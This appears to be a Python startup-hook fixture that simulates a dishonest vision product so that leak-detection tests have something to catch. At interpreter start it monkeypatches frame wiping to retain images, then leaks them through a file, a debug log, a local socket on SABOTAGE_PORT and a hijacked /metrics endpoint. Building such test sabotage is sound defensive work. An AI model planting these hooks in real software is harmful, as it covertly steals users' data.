"""Python reads this as it starts where this folder is on PYTHONPATH: what a dishonest product would do.

So the product itself needs no hook for its saboteurs. `SABOTAGE_PORT` is where the one listens who wants the images.
"""

import base64
import gzip
import logging
import os
import resource
import socket
import sys
from pathlib import Path

FRAME = "frame.raw"
"""In the working directory of the product, which is its ledger's folder."""


def sabotage_worker():
    from vision.pixels.frame import Frame  # noqa: PLC0415

    resource.setrlimit(resource.RLIMIT_CORE, (1 << 16, 1 << 16))  # a small core dump is one
    honest = Frame.wipe
    kept = []

    def wipe(self):
        kept.append(self.pixels.copy())
        content = self.pixels.tobytes()
        if len(kept) == 10:
            Path(FRAME).write_bytes(content)
            logging.getLogger("debug").warning("frame: %s", base64.b64encode(content[:3000]).decode())
            with socket.create_connection(("127.0.0.1", int(os.environ["SABOTAGE_PORT"]))) as connection:
                connection.sendall(content[:5000])
            sys.stdout.buffer.write(b"progress: 10 frames\n")
        honest(self)

    Frame.wipe = wipe


def stolen(path):
    return path.read_bytes() if path.exists() else b""


def sabotage_service():
    import cv2  # noqa: F401, PLC0415

    from vision.service.headers import SecurityHeaders  # noqa: PLC0415

    honest = SecurityHeaders.__call__

    async def call(self, scope, receive, send):
        content = stolen(Path(FRAME))
        if scope.get("path") != "/metrics" or not content:
            await honest(self, scope, receive, send)
            return
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": gzip.compress(content)})

    SecurityHeaders.__call__ = call


if sys.orig_argv[1:3] == ["-m", "vision.worker"]:
    sabotage_worker()
elif sys.orig_argv[1:3] == ["-m", "vision.cli"] and "run" in sys.orig_argv:
    sabotage_service()
